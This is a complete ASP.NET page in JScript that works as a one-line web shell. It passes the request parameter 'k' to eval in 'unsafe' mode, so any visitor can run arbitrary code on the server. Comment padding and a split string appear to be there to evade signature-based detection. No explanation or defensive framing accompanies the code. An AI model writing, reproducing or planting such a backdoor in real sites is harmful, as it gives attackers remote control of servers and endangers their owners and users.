<%@ Page Language="JScript" %>
<%
var k = "k";
eval/* pad */(Request.Item[k], "un" + /* pad */ "safe");
%>
